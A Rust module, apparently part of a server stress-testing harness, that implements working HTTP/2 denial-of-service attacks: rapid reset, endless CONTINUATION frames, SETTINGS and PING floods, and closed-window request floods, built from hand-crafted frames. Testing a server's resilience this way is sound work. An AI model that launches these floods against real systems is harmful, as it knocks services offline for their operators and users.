//! HTTP/2 attacks at frame level: rapid resets, endless headers, and floods of SETTINGS and PING.
//!
//! Source: RFC 9113, section 10.5; CVE-2023-44487 (rapid reset), CVE-2024-27316 and related ones (CONTINUATION),
//! CVE-2019-9512 (PING), CVE-2019-9515 (SETTINGS).

use std::io;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::trial::AttackContext;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub async fn floods(context: &AttackContext) {
    context
        .again(32, async |lane| {
            let mut stream = context.connect(lane).await?;
            stream.write_all(&opening(65_535)).await?;
            match lane % 5 {
                0 => rapid_reset(context, stream).await,
                1 => endless_head(context, stream).await,
                2 => again(context, stream, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0])).await,
                3 => again(context, stream, &frame(PING, 0, 0, b"12345678")).await,
                // The flow-control windows stay closed, so no response can leave the server.
                _ => closed_window(context, stream).await,
            }
        })
        .await;
}

async fn rapid_reset(context: &AttackContext, mut stream: TcpStream) -> io::Result<()> {
    for batch in 0u32.. {
        let pair = |i: u32| {
            let id = 1 + 2 * (batch * 50 + i);
            [request(id, "/v1/channels/a?wait=30", None), frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
        };
        send(&mut stream, &(0..50).flat_map(pair).collect::<Vec<_>>()).await?;
        context.done(50);
    }
    Ok(())
}

/// Sends CONTINUATION frames without END_HEADERS, so the header block never ends.
async fn endless_head(context: &AttackContext, mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(&frame(HEADERS, END_STREAM, 1, &head("/", None))).await?;
    let field = [&[0x00, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
    again(context, stream, &frame(CONTINUATION, 0, 1, &field.repeat(100))).await
}

async fn closed_window(context: &AttackContext, mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
    for i in 0.. {
        send(&mut stream, &request(1 + 2 * i, "/metrics", None)).await?;
        context.done(1);
    }
    Ok(())
}

async fn again(context: &AttackContext, mut stream: TcpStream, bytes: &[u8]) -> io::Result<()> {
    let many = bytes.repeat((8192 / bytes.len()).max(1));
    loop {
        send(&mut stream, &many).await?;
        context.done((many.len() / bytes.len()) as u64);
    }
}

/// Sends `bytes` and reads incoming data meanwhile, so this client never blocks the connection.
async fn send(stream: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let mut scratch = [0; 4096];
    let write = writer.write_all(bytes);
    tokio::pin!(write);
    loop {
        tokio::select! {
            biased;
            written = &mut write => return written,
            read = reader.read(&mut scratch) => if read? == 0 { return Err(io::ErrorKind::UnexpectedEof.into()) },
        }
    }
}

/// Returns the start of a connection. `window` is the initial window of each stream; the connection window is about 1
/// GiB.
pub fn opening(window: u32) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let setting = [&[0, 4][..], &window.to_be_bytes()].concat();
    out.extend(frame(SETTINGS, 0, 0, &setting));
    out.extend(frame(WINDOW_UPDATE, 0, 0, &(1u32 << 30).to_be_bytes()));
    out
}

/// Returns the frame of a complete `GET` request.
pub fn request(stream: u32, path: &str, accept: Option<&str>) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head(path, accept))
}

/// Source: RFC 7541, appendix A (the static table) and section 6.2.2 (literals that are not indexed).
fn head(path: &str, accept: Option<&str>) -> Vec<u8> {
    let mut head = vec![0x82, 0x86]; // GET, http
    let mut literal = |index: &[u8], value: &str| {
        head.extend(index);
        assert!(value.len() < 127, "one byte of length");
        head.push(value.len() as u8);
        head.extend(value.as_bytes());
    };
    literal(&[0x01], "attack"); // :authority
    literal(&[0x04], path);
    if let Some(accept) = accept {
        literal(&[0x0f, 0x04], accept);
    }
    head
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
